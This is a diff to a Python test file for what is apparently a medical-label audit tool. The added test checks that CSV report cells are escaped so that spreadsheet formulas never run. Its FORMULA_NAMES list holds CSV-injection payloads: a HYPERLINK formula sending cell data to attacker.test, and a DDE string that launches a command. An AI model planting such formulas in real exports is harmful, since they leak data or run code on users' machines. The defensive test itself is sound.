@@ -105,3 +105,17 @@ def test_facts_attached_to_the_corpus_are_used_before_the_reference_folder(
     assert _status_of(audit_tables(attached), "Perforation of the uterus") == "label contraindication"
     # attached facts win even when another reference folder is named
     assert _status_of(audit_tables(attached, REFERENCE_DIR), "Perforation of the uterus") == "label contraindication"
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://attacker.test/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "+Dizziness", "-Fainting"]
+
+
+def test_csv_report_cells_never_run_as_spreadsheet_formulas(formula_corpus):
+    lines = audit_report(formula_corpus, "csv").splitlines()
+    claims_part = lines[lines.index("# claims") + 1:lines.index("# premises")]
+    claims = pd.read_csv(io.StringIO("\n".join(claims_part)))
+    assert sorted(claims["claim"]) == sorted("'" + name for name in FORMULA_NAMES)
+    assert pd.api.types.is_integer_dtype(claims["line"])  # numbers stay numbers
+    back = pd.read_csv(io.StringIO(claims_csv(audit_tables(formula_corpus)["claims"])), skiprows=1)
+    assert sorted(back["claim"]) == sorted("'" + name for name in FORMULA_NAMES)
